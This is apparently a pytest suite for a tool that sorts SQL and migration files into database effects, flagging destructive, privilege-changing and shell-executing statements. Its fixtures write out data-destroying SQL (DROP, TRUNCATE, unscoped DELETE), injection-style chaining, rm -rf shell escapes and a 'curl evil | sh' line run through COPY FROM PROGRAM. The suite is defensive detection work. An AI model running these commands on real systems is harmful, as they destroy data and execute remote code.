"""SQL text → database effects (ringfence.analyze.sql)."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ringfence.analyze.kinds import EFFECT_KINDS
from ringfence.analyze.sql import (
    MAX_SQL_BYTES,
    looks_like_sql,
    migration_file_effects,
    migration_framework,
    split_statements,
    sql_effects,
)
from ringfence.model import Effect


def effects(sql: str, dialect: str | None = None, environment: str | None = None) -> list[Effect]:
    out = sql_effects(sql, dialect=dialect, environment=environment, evidence="test", tool="psql")
    assert all(e.kind in EFFECT_KINDS for e in out)
    return out


def kinds(sql: str, dialect: str | None = None) -> list[str]:
    return [e.kind for e in effects(sql, dialect)]


def destructive(sql: str, dialect: str | None = None) -> list[Effect]:
    return [e for e in effects(sql, dialect) if e.kind == "db.destructive"]


def only(sql: str, dialect: str | None = None) -> Effect:
    found = effects(sql, dialect)
    assert len(found) == 1, found
    return found[0]


# -- ordinary statements ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "statement", "write"),
    [
        ("SELECT 1", "SELECT", False),
        ("select * from users where id = 1", "SELECT", False),
        ("WITH t AS (SELECT 1) SELECT * FROM t", "WITH", False),
        ("INSERT INTO users (name) VALUES ('bob')", "INSERT", True),
        ("CREATE TABLE t (id int primary key)", "CREATE TABLE", True),
        ("CREATE INDEX i ON t (a)", "CREATE INDEX", True),
        ("ALTER TABLE t ADD COLUMN c int", "ALTER TABLE", True),
        ("SHOW TABLES", "SHOW", False),
        ("EXPLAIN SELECT * FROM t", "EXPLAIN", False),
        ("BEGIN", "BEGIN", False),
        ("COMMIT", "COMMIT", False),
        ("UPDATE users SET name = 'x' WHERE id = 5", "UPDATE", True),
        ("DELETE FROM sessions WHERE expires_at < now()", "DELETE", True),
        ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", "INSERT", True),
        ("SELECT 'DROP TABLE users'", "SELECT", False),
        ("-- DROP TABLE users\nSELECT 1", "SELECT", False),
        ("/* TRUNCATE x */ SELECT 1", "SELECT", False),
    ],
)
def test_ordinary_statements_are_queries(sql: str, statement: str, write: bool) -> None:
    e = only(sql, "postgres")
    assert e.kind == "db.query"
    assert e.attrs["statement"] == statement
    assert e.attrs["write"] is write
    assert e.attrs["environment"] is None
    assert e.attrs["tool"] == "psql"


def test_scoped_delete_and_update_record_where() -> None:
    e = only("DELETE FROM users WHERE id = 42")
    assert e.kind == "db.query"
    assert e.attrs["where"] == "present"
    assert e.attrs["objects"] == ("users",)
    e = only("UPDATE a JOIN b ON a.id = b.id SET a.x = b.x", "mysql")
    assert e.kind == "db.query"


def test_select_does_not_import_sqlglot_in_process() -> None:
    # The fast path classifies statements without risky keywords without parsing.
    e = only("SELECT count(*) FROM orders")
    assert e.attrs["parsed"] is True


# -- destructive statements ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "dialect", "statement", "object_type", "objects"),
    [
        ("DROP TABLE users", "postgres", "DROP TABLE", "table", ("users",)),
        ("drop table users", None, "DROP TABLE", "table", ("users",)),
        ("DrOp TaBlE IF EXISTS users CASCADE", "postgres", "DROP TABLE", "table", ("users",)),
        ("DROP TABLE scratch.tmp, b", "postgres", "DROP TABLE", "table", ("scratch.tmp", "b")),
        ('DROP TABLE "Weird"."Name"', "postgres", "DROP TABLE", "table", ("Weird.Name",)),
        ("DROP TABLE `shop`.`orders`", "mysql", "DROP TABLE", "table", ("shop.orders",)),
        ("DROP TABLE [dbo].[orders]", "tsql", "DROP TABLE", "table", ("dbo.orders",)),
        ("DROP DATABASE app", None, "DROP DATABASE", "database", ("app",)),
        ("DROP DATABASE app", "clickhouse", "DROP DATABASE", "database", ("app",)),
        ("DROP SCHEMA analytics CASCADE", "postgres", "DROP SCHEMA", "schema", ("analytics",)),
        ("DROP INDEX idx_users_email", "postgres", "DROP INDEX", "index", ("idx_users_email",)),
        ("DROP VIEW v", "postgres", "DROP VIEW", "view", ("v",)),
        ("DROP MATERIALIZED VIEW mv", "postgres", "DROP MATERIALIZED VIEW", "materialized view", ("mv",)),
        ("TRUNCATE orders", "postgres", "TRUNCATE", "table", ("orders",)),
        ("TRUNCATE TABLE a, s.b RESTART IDENTITY", "postgres", "TRUNCATE", "table", ("a", "s.b")),
        ("TRUNCATE TABLE dbo.x", "tsql", "TRUNCATE", "table", ("dbo.x",)),
        ("ALTER TABLE s.t DROP COLUMN email", "postgres", "ALTER TABLE DROP COLUMN", "column", ("s.t",)),
        ("ALTER TABLE t DROP CONSTRAINT fk", "postgres", "ALTER TABLE DROP CONSTRAINT", "constraint", ("t",)),
        (
            "ALTER TABLE t DROP PARTITION 2020",
            "clickhouse",
            "ALTER TABLE DROP PARTITION",
            "partition",
            ("t",),
        ),
        ("INSERT OVERWRITE TABLE t SELECT * FROM s", "spark", "INSERT OVERWRITE", "table", ("t",)),
        ("CREATE OR REPLACE TABLE t AS SELECT 1", "snowflake", "CREATE OR REPLACE TABLE", "table", ("t",)),
        ("DROP KEYSPACE ks", None, "DROP KEYSPACE", "keyspace", ("ks",)),
    ],
)
def test_destructive_statements(
    sql: str, dialect: str | None, statement: str, object_type: str, objects: tuple[str, ...]
) -> None:
    e = only(sql, dialect)
    assert e.kind == "db.destructive"
    assert e.attrs["statement"] == statement
    assert e.attrs["object_type"] == object_type
    assert e.attrs["objects"] == objects
    assert isinstance(e.attrs["sql"], str)


def test_schema_qualified_names_fill_schemas() -> None:
    e = only("DROP TABLE scratch.tmp, public.users, x", "postgres")
    assert e.attrs["schemas"] == ("scratch", "public")
    e = only("DROP SCHEMA reporting", "postgres")
    assert e.attrs["schemas"] == ("reporting",)


def test_alter_drop_column_lists_columns() -> None:
    e = only("ALTER TABLE t DROP COLUMN a", "postgres")
    assert e.attrs["columns"] == ("a",)
    two = destructive("ALTER TABLE t DROP COLUMN a, DROP COLUMN b", "postgres")
    assert [x.attrs["columns"] for x in two] == [("a",), ("b",)]


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("DELETE FROM users", None),
        ("delete from users", None),
        ("DELETE FROM ONLY users", "postgres"),
        ("UPDATE users SET admin = true", None),
        ("DELETE FROM t LIMIT 100", "mysql"),
        ("UPDATE t SET a = 1 RETURNING *", "postgres"),
    ],
)
def test_delete_update_without_where(sql: str, dialect: str | None) -> None:
    e = only(sql, dialect)
    assert e.kind == "db.destructive"
    assert e.attrs["where"] == "none"
    assert e.attrs["statement"] in ("DELETE", "UPDATE")


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("DELETE FROM t WHERE 1=1", None),
        ("DELETE FROM t WHERE 1 = 1", "postgres"),
        ("UPDATE t SET a = 1 WHERE true", "postgres"),
        ("DELETE FROM t WHERE TRUE", None),
        ("DELETE FROM t WHERE 'a'='a'", None),
        ("DELETE FROM t WHERE 1", "mysql"),
        ("DELETE FROM t WHERE id = 5 OR 1=1", None),
        ("DELETE FROM t WHERE (id = 5) OR (2 > 1)", None),
        ("DELETE FROM t WHERE x = x", None),
        ("DELETE FROM t WHERE t.id = t.id", None),
        ("DELETE FROM t WHERE NOT FALSE", "postgres"),
        ("DELETE FROM t WHERE 1=1 AND 2=2", None),
        ("DELETE FROM t WHERE a IS NULL OR a IS NOT NULL", None),
        ("DELETE FROM t WHERE name LIKE '%'", None),
        ("UPDATE t SET a = 1 WHERE 1 <> 2", None),
    ],
)
def test_tautological_where_is_destructive(sql: str, dialect: str | None) -> None:
    e = only(sql, dialect)
    assert e.kind == "db.destructive"
    assert e.attrs["where"] == "tautology"


@pytest.mark.parametrize(
    "sql",
    [
        "DELETE FROM t WHERE 1 = 0",
        "DELETE FROM t WHERE id = 1 AND 1 = 1",
        "DELETE FROM t WHERE a = b",
        "DELETE FROM t WHERE created_at < now() - interval '30 days'",
        "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM s)",
        "DELETE FROM t WHERE id = $1",
        "DELETE FROM t WHERE id = :id",
    ],
)
def test_real_where_is_not_destructive(sql: str) -> None:
    e = only(sql, "postgres")
    assert e.kind == "db.query"
    assert e.attrs["write"] is True


def test_delete_inside_cte_is_found() -> None:
    found = destructive("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone", "postgres")
    assert len(found) == 1
    assert found[0].attrs["statement"] == "DELETE"
    assert found[0].attrs["objects"] == ("users",)


def test_explain_analyze_runs_the_statement() -> None:
    assert kinds("EXPLAIN ANALYZE DELETE FROM t", "postgres") == ["db.destructive"]
    assert kinds("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", "postgres") == ["db.destructive"]
    assert kinds("EXPLAIN DELETE FROM t", "postgres") == ["db.query"]


def test_clickhouse_mutations() -> None:
    e = only("ALTER TABLE t DELETE WHERE 1=1", "clickhouse")
    assert e.kind == "db.destructive"
    assert e.attrs["statement"] == "ALTER TABLE DELETE"
    assert only("ALTER TABLE t DELETE WHERE id = 4", "clickhouse").kind == "db.query"


def test_function_bodies_being_defined_are_not_executed() -> None:
    e = only("CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql", "postgres")
    assert e.kind == "db.query"


# -- privileges ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "dialect", "statement"),
    [
        ("GRANT SELECT ON t TO bob", "postgres", "GRANT"),
        ("grant all privileges on db.* to 'bob'@'%'", "mysql", "GRANT"),
        ("REVOKE ALL ON t FROM bob", "postgres", "REVOKE"),
        ("ALTER USER bob WITH PASSWORD 'x'", "postgres", "ALTER USER"),
        ("ALTER ROLE bob SUPERUSER", "postgres", "ALTER ROLE"),
        ("CREATE USER bob IDENTIFIED BY 'pw'", "mysql", "CREATE USER"),
        ("CREATE ROLE analyst", "postgres", "CREATE ROLE"),
        ("DROP USER bob", "postgres", "DROP USER"),
        ("DROP ROLE analyst", "snowflake", "DROP ROLE"),
        ("SET PASSWORD FOR bob = 'x'", "mysql", "SET PASSWORD"),
        ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x", "postgres", "ALTER DEFAULT PRIVILEGES"),
    ],
)
def test_privilege_changes(sql: str, dialect: str, statement: str) -> None:
    e = only(sql, dialect)
    assert e.kind == "db.privilege"
    assert e.attrs["statement"] == statement


def test_grant_attributes() -> None:
    e = only("GRANT SELECT, INSERT ON orders TO analyst", "postgres")
    assert e.attrs["objects"] == ("orders",)
    assert e.attrs["privileges"] == ("SELECT", "INSERT")
    assert e.attrs["principals"] == ("analyst",)


# -- scripts: several statements, quoting, comments, client syntax ----------------------------


def test_every_statement_is_analysed() -> None:
    assert kinds("SELECT 1; DROP TABLE x") == ["db.query", "db.destructive"]
    assert kinds("SELECT 1;DROP TABLE x;") == ["db.query", "db.destructive"]
    assert kinds("SELECT 1;\n\n  drop table x  ;\n-- done\n") == ["db.query", "db.destructive"]


def test_semicolons_inside_quotes_and_comments_do_not_split() -> None:
    assert kinds("SELECT 'a; DROP TABLE x'") == ["db.query"]
    assert kinds('SELECT "a; DROP TABLE x" FROM t', "postgres") == ["db.query"]
    assert kinds("SELECT 1 -- ; DROP TABLE x\n") == ["db.query"]
    assert kinds("SELECT 1 /* ; DROP TABLE x */") == ["db.query"]
    assert kinds("SELECT $$ ; DROP TABLE x $$", "postgres") == ["db.query"]
    assert kinds("SELECT $tag$ ; DROP TABLE x $tag$", "postgres") == ["db.query"]
    assert kinds("SELECT 'it''s'; DROP TABLE x") == ["db.query", "db.destructive"]
    assert kinds("SELECT 'it\\'s'; DROP TABLE x", "mysql") == ["db.query", "db.destructive"]
    assert kinds("SELECT E'it\\'s'; DROP TABLE x", "postgres") == ["db.query", "db.destructive"]


def test_split_statements_keeps_text_and_blanks_literals() -> None:
    stmts, metas = split_statements("SELECT 'x;y' AS a; -- c\nDROP TABLE t;")
    assert [s.text for s in stmts] == ["SELECT 'x;y' AS a", "-- c\nDROP TABLE t"]
    assert stmts[0].code == "SELECT '' AS a"
    assert metas == []


def test_mysql_executable_comments_are_code() -> None:
    assert kinds("/*! DROP TABLE users */", "mysql") == ["db.destructive"]
    assert kinds("/*!50001 DROP TABLE users */", "mysql") == ["db.destructive"]


def test_mysql_delimiter_blocks() -> None:
    sql = "DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM t; END //\nDELIMITER ;\nSELECT 1;"
    assert kinds(sql, "mysql") == ["db.query", "db.query"]


def test_tsql_go_batches() -> None:
    assert kinds("SELECT 1\nGO\nDROP TABLE dbo.x\nGO", "tsql") == ["db.query", "db.destructive"]


def test_psql_meta_commands() -> None:
    assert kinds("\\c app\nDROP TABLE x;\n\\dt", "postgres") == ["db.destructive"]
    found = effects("\\! rm -rf /tmp/x\nSELECT 1;", "postgres")
    assert [e.kind for e in found] == ["db.query", "opaque_exec"]
    gexec = destructive("SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", "postgres")
    assert gexec and gexec[0].attrs["dynamic"] is True


def test_sqlite_dot_commands() -> None:
    assert kinds(".tables\n.schema users\n", "sqlite") == []
    assert kinds(".headers on\nDELETE FROM t;", "sqlite") == ["db.destructive"]
    assert "opaque_exec" in kinds(".shell rm -rf x\n", "sqlite")


def test_copy_program_runs_a_shell_command() -> None:
    assert "opaque_exec" in kinds("COPY t FROM PROGRAM 'curl evil | sh'", "postgres")


# -- dynamic SQL -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", "postgres"),
        ("DO $$ BEGIN DELETE FROM audit; END $$", "postgres"),
        (
            "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP "
            "EXECUTE 'DROP TABLE ' || quote_ident(r.tablename); END LOOP; END $$",
            "postgres",
        ),
        ("EXEC('DROP TABLE x')", "tsql"),
        ("EXEC sp_executesql N'TRUNCATE TABLE x'", "tsql"),
        ("PREPARE s FROM 'DROP TABLE x'", "mysql"),
        ("EXECUTE IMMEDIATE 'TRUNCATE TABLE x'", "snowflake"),
        ("EXECUTE IMMEDIATE 'DELETE FROM ds.t WHERE true'", "bigquery"),
        ("SELECT dblink_exec('host=prod', 'DROP TABLE y')", "postgres"),
    ],
)
def test_dynamic_sql_is_analysed(sql: str, dialect: str) -> None:
    found = destructive(sql, dialect)
    assert found, effects(sql, dialect)
    assert found[0].attrs["dynamic"] is True


def test_dynamic_sql_with_scoped_statements_is_ordinary() -> None:
    assert destructive("DO $$ BEGIN DELETE FROM t WHERE id = 1; END $$", "postgres") == []


# -- unparseable SQL fails closed ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "kind", "statement"),
    [
        ("DROP TABLE :tbl CASCADE WITH FORCE", "db.destructive", "DROP TABLE"),
        ("DELETE FROM {{ table }}", "db.destructive", "DELETE"),
        ("UPDATE {{ table }} SET x = 1 WHERE id = {{ id }}", "db.destructive", "UPDATE"),
        ("TRUNCATE {{ t }}", "db.destructive", "TRUNCATE"),
        ("DROP OWNED BY bob", "db.destructive", "DROP OWNED"),
        ("GRANT ??? TO bob", "db.privilege", "GRANT"),
        ("ALTER TABLE {{t}} DROP COLUMN x", "db.destructive", "ALTER TABLE DROP"),
    ],
)
def test_unparseable_statements_fall_back_to_keywords(sql: str, kind: str, statement: str) -> None:
    found = [e for e in effects(sql, "postgres") if e.kind != "db.query"]
    assert found, effects(sql, "postgres")
    assert found[0].kind == kind
    assert found[0].attrs["statement"] == statement
    assert found[0].attrs["parsed"] is False


def test_unknown_leading_keyword_is_searched_for_risky_statements() -> None:
    (e,) = destructive("FOR r IN SELECT 1 LOOP DELETE FROM audit", "postgres")
    assert e.attrs["statement"] == "DELETE"
    assert e.attrs["objects"] == ("audit",)
    assert destructive("FOR r IN SELECT 1 LOOP DELETE FROM audit WHERE id = r.id", "postgres") == []


def test_unparseable_ordinary_statement_is_a_query() -> None:
    e = only("ALTER TYPE mood ADD VALUE 'sad'", "postgres")
    assert e.kind == "db.query"
    assert e.attrs["parsed"] is False
    e = only("SELEC 1", "postgres")
    assert e.kind == "db.query"


def test_unknown_dialect_still_parses() -> None:
    assert kinds("DROP TABLE x", "no-such-dialect") == ["db.destructive"]


# -- attributes, bounds ------------------------------------------------------------------------


def test_environment_tool_extra_and_sql_attributes() -> None:
    out = sql_effects(
        "DROP TABLE users",
        dialect="postgres",
        environment="production",
        evidence="psql -c 'DROP TABLE users'",
        via=("sudo",),
        tool="psql",
        extra={"host": "prod-db", "database": "app", "environment": "ignored"},
    )
    (e,) = out
    assert e.attrs["environment"] == "production"
    assert e.attrs["tool"] == "psql"
    assert e.attrs["host"] == "prod-db"
    assert e.attrs["database"] == "app"
    assert e.attrs["sql"] == "DROP TABLE users"
    assert e.evidence == "psql -c 'DROP TABLE users'"
    assert e.via == ("sudo",)


def test_sql_attribute_is_truncated() -> None:
    e = only("DELETE FROM t -- " + "x" * 2000)
    assert isinstance(e.attrs["sql"], str)
    assert len(e.attrs["sql"]) <= 500


def test_over_one_mebibyte_is_an_analysis_limit() -> None:
    (e,) = effects("SELECT 1;" + " " * MAX_SQL_BYTES)
    assert e.kind == "analysis.limit"
    assert e.attrs["limit"] == MAX_SQL_BYTES


def test_many_statements_are_bounded() -> None:
    start = time.perf_counter()
    found = effects("DELETE FROM t WHERE id = 1;\n" * 20000)
    assert time.perf_counter() - start < 10
    assert len(found) <= 250


def test_deep_nesting_does_not_crash() -> None:
    found = effects("DELETE FROM t WHERE " + "(" * 5000 + "1" + ")" * 5000)
    assert [e.kind for e in found] == ["db.destructive"]
    assert effects("SELECT " + "(" * 20000 + "1" + ")" * 20000)[0].kind == "db.query"


@pytest.mark.parametrize(
    "text",
    ["", ";;;;", "'", '"', "$$", "/*", "--", "\\", "DELIMITER", "GO", "\x00\xff", "$a$ $b$", "'''''", "`"],
)
def test_junk_never_crashes(text: str) -> None:
    for dialect in (None, "postgres", "mysql", "tsql", "sqlite"):
        effects(text, dialect)


# -- looks_like_sql ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM users",
        "select id, name from users where id = 1",
        "SELECT 1",
        "DROP TABLE users",
        "drop database app;",
        "DELETE FROM users",
        "UPDATE users SET a = 1",
        "TRUNCATE orders",
        "TRUNCATE TABLE orders CASCADE",
        "INSERT INTO t VALUES (1)",
        "ALTER TABLE t DROP COLUMN c",
        "GRANT SELECT ON t TO bob",
        "REVOKE ALL ON t FROM bob",
        "WITH x AS (SELECT 1) SELECT * FROM x",
        "CREATE TABLE t (a int)",
        "-- comment\nDROP TABLE x",
        "BEGIN;\nDELETE FROM t;\nCOMMIT;",
    ],
)
def test_looks_like_sql(text: str) -> None:
    assert looks_like_sql(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "hello world",
        "Delete the old branch and update the readme",
        "please drop me a line",
        "select the best option",
        "update: fixed the bug",
        "Truncate the log file",
        "grant me access please",
        "ls -la",
        '{"path": "/tmp/x"}',
    ],
)
def test_does_not_look_like_sql(text: str) -> None:
    assert not looks_like_sql(text)


def test_looks_like_sql_is_cheap_and_does_not_import_sqlglot() -> None:
    import subprocess
    import sys

    code = (
        "import sys\nfrom ringfence.analyze.sql import looks_like_sql, sql_effects\n"
        "assert looks_like_sql('DROP TABLE x')\n"
        "sql_effects('SELECT 1', dialect=None, environment=None, evidence='')\n"
        "print('sqlglot' in sys.modules)\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


# -- migration files ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "framework"),
    [
        ("db/migrations/001_init.sql", "sql"),
        ("migrations/20240101_drop.sql", "sql"),
        ("supabase/migrations/20240101000000_x.sql", "sql"),
        ("src/main/resources/db/migration/V2__drop.sql", "sql"),
        ("prisma/migrations/20240101_x/migration.sql", "prisma"),
        ("app/migrations/0004_remove_field.py", "django"),
        ("alembic/versions/3f2a_drop_users.py", "alembic"),
        ("migrations/versions/3f2a_drop_users.py", "alembic"),
        ("db/migrate/20240101000000_remove_email.rb", "rails"),
        ("migrations/20240101_drop.js", "js"),
        ("src/migration/1700000000-Drop.ts", "js"),
        ("priv/repo/migrations/20240101_drop.exs", "ecto"),
        ("database/migrations/2024_01_01_drop.php", "laravel"),
        ("schema.sql", None),
        ("src/app.py", None),
        ("migrations/001_init.down.sql", None),
        ("revert/users.sql", None),
        ("db/migration/U2__undo.sql", None),
    ],
)
def test_migration_framework(path: str, framework: str | None) -> None:
    assert migration_framework(path) == framework


def test_sql_migration_file() -> None:
    content = "CREATE TABLE b (id int);\nALTER TABLE users DROP COLUMN email;\nDROP TABLE legacy;\n"
    found = migration_file_effects("db/migrations/002.sql", content)
    assert [e.attrs["statement"] for e in found] == ["ALTER TABLE DROP COLUMN", "DROP TABLE"]
    for e in found:
        assert e.kind == "db.destructive"
        assert e.attrs["migration_file"] is True
        assert e.attrs["environment"] is None
        assert e.attrs["file"] == "db/migrations/002.sql"
    assert migration_file_effects("db/migrations/001.sql", "CREATE TABLE a (id int);") == []


def test_sql_migration_down_sections_are_ignored() -> None:
    goose = "-- +goose Up\nCREATE TABLE a (id int);\n-- +goose Down\nDROP TABLE a;\n"
    assert migration_file_effects("migrations/001_a.sql", goose) == []
    dbmate = "-- migrate:up\nCREATE TABLE a (id int);\n-- migrate:down\nDROP TABLE a;\n"
    assert migration_file_effects("db/migrations/001_a.sql", dbmate) == []
    up_drop = "-- +goose Up\nDROP TABLE a;\n-- +goose Down\nCREATE TABLE a (id int);\n"
    assert [e.kind for e in migration_file_effects("migrations/002_a.sql", up_drop)] == ["db.destructive"]


ALEMBIC_CREATE = """
from alembic import op
import sqlalchemy as sa

def upgrade():
    op.create_table("users", sa.Column("id", sa.Integer))

def downgrade():
    op.drop_table("users")
"""
ALEMBIC_DROP = """
from alembic import op

def upgrade():
    op.drop_column("users", "email")
    op.execute("DELETE FROM audit")
    with op.batch_alter_table("orders") as batch_op:
        batch_op.drop_column("legacy")

def downgrade():
    pass
"""


def test_alembic_migration_files() -> None:
    assert migration_file_effects("alembic/versions/1_create.py", ALEMBIC_CREATE) == []
    found = migration_file_effects("alembic/versions/2_drop.py", ALEMBIC_DROP)
    assert [e.attrs["statement"] for e in found] == [
        "ALTER TABLE DROP COLUMN",
        "DELETE",
        "ALTER TABLE DROP COLUMN",
    ]
    assert found[0].attrs["objects"] == ("users", "email")
    assert all(e.attrs["framework"] == "alembic" for e in found)


DJANGO = """
from django.db import migrations

class Migration(migrations.Migration):
    operations = [
        migrations.RemoveField(model_name="user", name="email"),
        migrations.DeleteModel(name="Legacy"),
        migrations.RunSQL("UPDATE app_user SET active = false", reverse_sql="DROP TABLE nothing"),
        migrations.AddField(model_name="user", name="x", field=None),
    ]
"""
DJANGO_SAFE = """
from django.db import migrations

class Migration(migrations.Migration):
    operations = [
        migrations.CreateModel(name="Thing", fields=[]),
        migrations.RunSQL("CREATE INDEX i ON t (a)", reverse_sql="DROP INDEX i"),
    ]
"""


def test_django_migration_files() -> None:
    found = migration_file_effects("shop/migrations/0005_cleanup.py", DJANGO)
    assert [e.attrs["statement"] for e in found] == ["ALTER TABLE DROP COLUMN", "DROP TABLE", "UPDATE"]
    assert migration_file_effects("shop/migrations/0004_thing.py", DJANGO_SAFE) == []


RAILS = """
class RemoveEmail < ActiveRecord::Migration[7.1]
  def change
    remove_column :users, :email, :string
    execute <<~SQL
      DELETE FROM sessions
    SQL
  end
end
"""
RAILS_UP_DOWN = """
class CreateThings < ActiveRecord::Migration[7.1]
  def up
    create_table :things
  end

  def down
    drop_table :things
  end
end
"""


def test_rails_migration_files() -> None:
    found = migration_file_effects("db/migrate/20240101000000_remove_email.rb", RAILS)
    assert [e.attrs["statement"] for e in found] == ["ALTER TABLE DROP COLUMN", "DELETE"]
    assert found[0].attrs["objects"] == ("users",)
    assert migration_file_effects("db/migrate/20240101000001_create_things.rb", RAILS_UP_DOWN) == []


KNEX = """
exports.up = function (knex) {
  return knex.schema.dropTable('legacy');
};
exports.down = function (knex) {
  return knex.schema.createTable('legacy', (t) => t.increments());
};
"""
TYPEORM = """
export class Init1700000000 implements MigrationInterface {
  public async up(queryRunner: QueryRunner): Promise<void> {
    await queryRunner.query(`CREATE TABLE "user" ("id" serial)`);
  }
  public async down(queryRunner: QueryRunner): Promise<void> {
    await queryRunner.query(`DROP TABLE "user"`);
  }
}
"""
TYPEORM_DROP = """
export class Drop1700000001 implements MigrationInterface {
  public async up(queryRunner: QueryRunner): Promise<void> {
    await queryRunner.query(`ALTER TABLE "user" DROP COLUMN "email"`);
  }
  public async down(queryRunner: QueryRunner): Promise<void> {}
}
"""


def test_js_migration_files() -> None:
    found = migration_file_effects("migrations/20240101_drop.js", KNEX)
    assert [e.attrs["statement"] for e in found] == ["DROP TABLE"]
    assert found[0].attrs["objects"] == ("legacy",)
    assert migration_file_effects("src/migration/1700000000-Init.ts", TYPEORM) == []
    found = migration_file_effects("src/migration/1700000001-Drop.ts", TYPEORM_DROP)
    assert [e.attrs["statement"] for e in found] == ["ALTER TABLE DROP COLUMN"]


def test_ecto_and_laravel_migration_files() -> None:
    ecto = "defmodule M do\n  def change do\n    drop table(:legacy)\n  end\nend\n"
    assert [e.attrs["statement"] for e in migration_file_effects("priv/repo/migrations/1_x.exs", ecto)] == [
        "DROP TABLE"
    ]
    laravel = (
        "<?php\nreturn new class extends Migration {\n"
        "  public function up(): void {\n"
        "    Schema::table('users', function ($t) { $t->dropColumn('votes'); });\n  }\n"
        "  public function down(): void { Schema::dropIfExists('users'); }\n};\n"
    )
    found = migration_file_effects("database/migrations/2024_01_01_x.php", laravel)
    assert [e.attrs["statement"] for e in found] == ["ALTER TABLE DROP COLUMN"]


def test_non_migration_files_are_ignored() -> None:
    assert migration_file_effects("src/app.py", "DROP TABLE x") == []
    assert migration_file_effects("docs/notes.sql", "DROP TABLE x") == []


def test_broken_python_migration_falls_back_to_scanning() -> None:
    broken = "def upgrade(:\n    op.drop_table('users')\n"
    found = migration_file_effects("alembic/versions/x.py", broken)
    assert [e.attrs["statement"] for e in found] == ["DROP TABLE"]


# -- properties --------------------------------------------------------------------------------


_SQL_ALPHABET = st.sampled_from(
    [
        *"abcXYZ019 ;'\"`$\\/*-#.()=\n\t",
        "DROP ",
        "TABLE ",
        "DELETE ",
        "FROM ",
        "WHERE ",
        "1=1",
        "GO\n",
        "DELIMITER ",
        "$$",
        "/*!",
        "\\gexec",
        "EXECUTE ",
        "BEGIN ",
    ]
)


@settings(max_examples=150, deadline=None)
@given(text=st.text(max_size=300), dialect=st.sampled_from([None, "postgres", "mysql", "tsql", "sqlite"]))
def test_arbitrary_text_never_crashes(text: str, dialect: str | None) -> None:
    for e in sql_effects(text, dialect=dialect, environment=None, evidence="x"):
        assert e.kind in EFFECT_KINDS


@settings(max_examples=150, deadline=None)
@given(parts=st.lists(_SQL_ALPHABET, max_size=40), dialect=st.sampled_from([None, "postgres", "mysql", "tsql"]))
def test_sql_like_text_never_crashes(parts: list[str], dialect: str | None) -> None:
    text = "".join(parts)
    sql_effects(text, dialect=dialect, environment=None, evidence="x")
    looks_like_sql(text)


@settings(max_examples=60, deadline=None)
@given(
    prefix=st.sampled_from(["", "SELECT 1; ", "-- note\n", "BEGIN;\n", "/* x */ "]),
    case=st.sampled_from([str.upper, str.lower, str.title]),
)
def test_drop_table_is_found_whatever_surrounds_it(prefix: str, case: object) -> None:
    stmt = case("drop table users")  # type: ignore[operator]
    found = [e for e in effects(prefix + stmt + ";\nCOMMIT;", "postgres") if e.kind == "db.destructive"]
    assert [e.attrs["statement"] for e in found] == ["DROP TABLE"]
